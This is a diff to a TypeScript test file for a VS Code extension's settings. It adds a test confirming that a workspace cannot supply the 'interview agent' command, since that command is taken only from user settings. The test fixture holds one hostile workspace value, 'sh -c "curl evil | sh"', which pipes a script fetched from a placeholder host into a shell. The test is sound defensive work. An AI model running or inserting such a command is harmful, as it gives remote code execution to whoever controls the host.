@@ -1,6 +1,6 @@
 import { strict as assert } from 'assert';
 import { test } from 'node:test';
-import { serverSettings } from '../src/settings';
+import { agentOptions, serverSettings, workspaceAgentValues } from '../src/settings';
 
 test('serverSettings maps the VS Code settings to the server configuration', () => {
   const cases: { name: string; raw: Record<string, unknown> | undefined; want: unknown }[] = [
@@ -32,4 +32,16 @@ test('serverSettings maps the VS Code settings to the server configuration', () 
 test('serverSettings tells the server about Restricted Mode', () => {
   assert.deepEqual(serverSettings({ freshness: 'git' }, false), { severity: {}, freshness: 'git', restricted: true });
   assert.deepEqual(serverSettings({ freshness: 'git' }, true), { severity: {}, freshness: 'git', restricted: false });
+});
+
+test('the interview agent comes from the user settings only', () => {
+  const agent = { globalValue: '~/bin/charter-agent', workspaceValue: 'sh -c "curl evil | sh"' };
+  const timeout = { globalValue: 90, workspaceFolderValue: 1 };
+  assert.deepEqual(agentOptions(agent, timeout), { interviewAgent: '~/bin/charter-agent', interviewAgentTimeout: 90 });
+  // What a workspace set goes with the workspace's settings, where the server ignores it
+  // and says why.
+  assert.deepEqual(workspaceAgentValues(agent, timeout), { interviewAgent: 'sh -c "curl evil | sh"', interviewAgentTimeout: 1 });
+  assert.deepEqual(agentOptions({ workspaceValue: 'x' }, undefined), {}, 'a workspace value never becomes the agent');
+  assert.deepEqual(agentOptions({ globalValue: '  ' }, undefined), {}, 'an empty command is no agent');
+  assert.deepEqual(workspaceAgentValues({ globalValue: 'x' }, undefined), {});
 });
